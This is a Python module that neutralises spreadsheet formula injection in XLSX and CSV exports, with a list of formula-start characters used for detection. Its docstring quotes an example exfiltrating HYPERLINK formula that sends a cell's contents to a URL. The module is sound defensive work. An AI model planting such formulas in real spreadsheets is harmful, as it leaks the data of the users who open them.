"""Cells of the workbooks and CSV files we write from data: text that looks like a formula stays text.

A value such as ``=HYPERLINK("http://…?d="&A1,"Bấm vào đây")`` typed by one user must never run in
the spreadsheet of the next. In XLSX it is written as a text cell with Excel's quote prefix, so the
value is kept exactly (a re-import reads the same text) and editing the cell keeps it text. CSV has
no cell types: there the text gets a leading apostrophe (``neutralise``).
"""
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def neutralise(value):
    """CSV: text a spreadsheet would run as a formula gets a leading apostrophe; numbers stay."""
    if looks_like_formula(value):
        return "'" + value
    return value


def as_text(cell):
    """An openpyxl cell whose text looks like a formula, written as text (quote prefix)."""
    if looks_like_formula(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def live_formulas(workbook) -> int:
    """How many cells of an (editable, not read-only) openpyxl workbook hold a formula."""
    return sum(1 for ws in workbook.worksheets for row in ws.iter_rows() for cell in row
               if cell.data_type == "f")
